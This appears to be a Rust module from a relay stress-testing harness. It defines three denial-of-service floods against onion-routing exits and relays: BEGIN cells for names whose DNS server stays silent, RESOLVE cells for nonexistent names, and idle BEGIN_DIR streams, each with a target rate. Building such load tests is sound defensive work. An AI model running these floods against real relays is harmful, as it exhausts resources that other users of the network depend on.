//! Attacks by names that an exit is to look up, and by requests for its directory.

use std::time::Duration;

use anyhow::Result;
use weft_cell::RelayCmd;
use weft_cell::stream_msg::Resolve;

use super::circuit::Circuit;
use super::definition::{Attack, NO_LEAD};
use super::peer::Peer;
use super::probes::Want;
use super::scene::Scene;
use super::streams::silent_name;
use super::target::Needs;

pub(super) const SILENT_DNS: Attack = Attack {
    name: "silent-dns",
    what: "BEGIN for names whose server is silent, on 32 circuits of one previous hop",
    bound: "3,000 names a second",
    needs: Needs::EXIT,
    want: Want::Name,
    destination: None,
    lead: Duration::from_secs(4),
    run: silent_dns,
};

fn silent_dns(scene: &Scene<'_>) -> Result<()> {
    let mut number = 0;
    flood(scene, 32, 32, Duration::from_millis(10), &mut |_| {
        number += 1;
        Ok((RelayCmd::BEGIN, silent_name(number)?))
    });
    Ok(())
}

pub(super) const RESOLVE_FLOOD: Attack = Attack {
    name: "resolve-flood",
    what: "RESOLVE for names that do not exist, each another",
    bound: "5,000 names a second",
    needs: Needs::EXIT,
    want: Want::Name,
    destination: None,
    lead: NO_LEAD,
    run: resolve_flood,
};

fn resolve_flood(scene: &Scene<'_>) -> Result<()> {
    let mut number = 0;
    flood(scene, 8, 48, Duration::from_millis(10), &mut |_| {
        number += 1;
        let resolve = Resolve {
            name: format!("nobody-{number}.example").into_bytes(),
        };
        Ok((RelayCmd::RESOLVE, resolve.encode()?))
    });
    Ok(())
}

pub(super) const SILENT_BEGIN_DIR: Attack = Attack {
    name: "silent-begin-dir",
    what: "BEGIN_DIR through four previous hops, and never a request on it",
    bound: "1,600 streams a second, 4,096 in all on each link",
    needs: Needs::RELAY,
    want: Want::Directory,
    destination: None,
    lead: Duration::from_secs(1),
    run: silent_begin_dir,
};

fn silent_begin_dir(scene: &Scene<'_>) -> Result<()> {
    const LINKS: usize = 4;
    scene.again(|| {
        let mut links = Vec::new();
        for number in 0..LINKS {
            let mut peer = scene.relay(number)?;
            let circuits = (1..=8)
                .map(|id| Circuit::create_fast(&mut peer, id))
                .collect::<Result<Vec<_>>>()?;
            links.push((peer, circuits));
        }
        for stream in 1..=512 {
            for (peer, circuits) in &mut links {
                let mut cells = Vec::new();
                for circuit in circuits.iter_mut() {
                    let cell = circuit.cell(RelayCmd::BEGIN_DIR, stream, &[], &mut peer.rng)?;
                    cells.extend_from_slice(cell.as_bytes());
                }
                scene.send_blindly(peer, &cells)?;
                scene.did(8);
            }
            scene.pause(Duration::from_millis(20));
            if scene.is_over() {
                return Ok(());
            }
        }
        scene.linger(links.iter_mut().map(|(peer, _)| peer).collect())
    });
    Ok(())
}

/// Sends messages that open streams over many circuits of one link: `at_once` each `interval`.
fn flood(
    scene: &Scene<'_>,
    circuits: u32,
    at_once: usize,
    interval: Duration,
    message: &mut dyn FnMut(u16) -> Result<(RelayCmd, Vec<u8>)>,
) {
    let mut link = 0;
    scene.again(|| {
        link += 1;
        let mut peer: Peer = scene.relay(link)?;
        let mut circuits = (1..=circuits)
            .map(|id| Circuit::create_fast(&mut peer, id))
            .collect::<Result<Vec<_>>>()?;
        let count = circuits.len();
        let mut number = 0usize;
        while !scene.is_over() {
            let mut cells = Vec::new();
            for _ in 0..at_once {
                let stream = u16::try_from(number / count % 65_535).unwrap_or(0) + 1;
                let (command, data) = message(stream)?;
                if let Some(circuit) = circuits.get_mut(number % count) {
                    let cell = circuit.cell(command, stream, &data, &mut peer.rng)?;
                    cells.extend_from_slice(cell.as_bytes());
                }
                number += 1;
            }
            scene.send_blindly(&mut peer, &cells)?;
            scene.did(at_once as u64);
            scene.pause(interval);
        }
        Ok(())
    });
}
